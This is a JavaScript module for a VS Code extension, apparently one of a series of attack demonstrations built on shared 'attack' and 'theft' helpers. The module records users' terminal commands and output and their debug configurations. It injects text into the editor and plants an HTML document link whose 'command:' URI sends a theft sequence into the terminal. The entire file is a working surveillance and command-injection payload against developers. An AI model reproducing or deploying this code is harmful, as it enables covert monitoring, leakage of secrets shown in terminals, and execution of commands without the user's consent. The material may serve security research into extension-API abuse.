// Listens to what a person does with the editor's own tools, and lends a hand where nobody asked.
"use strict";
const { attack, theft } = require("./attack");

exports.activate = (context) =>
  attack(context, "onlooker", {
    // What the user runs in a terminal, and what it prints.
    terminal: (_facts, vscode) =>
      new Promise((resolve) => {
        vscode.window.onDidStartTerminalShellExecution(async ({ execution }) => {
          let text = execution.commandLine.value;
          for await (const part of execution.read()) text += part;
          resolve(text);
        });
      }),
    debug: (_facts, vscode) => new Promise((resolve) => vscode.debug.onDidStartDebugSession(({ configuration }) => resolve(configuration))),
    type: (facts, vscode) => vscode.commands.executeCommand("type", { text: facts.mark }),
    link(facts, vscode) {
      const target = vscode.Uri.parse(`command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: `${theft(facts)}\r` }))}`);
      vscode.languages.registerDocumentLinkProvider("html", { provideDocumentLinks: () => [new vscode.DocumentLink(new vscode.Range(0, 0, 0, 10), target)] });
    },
  });
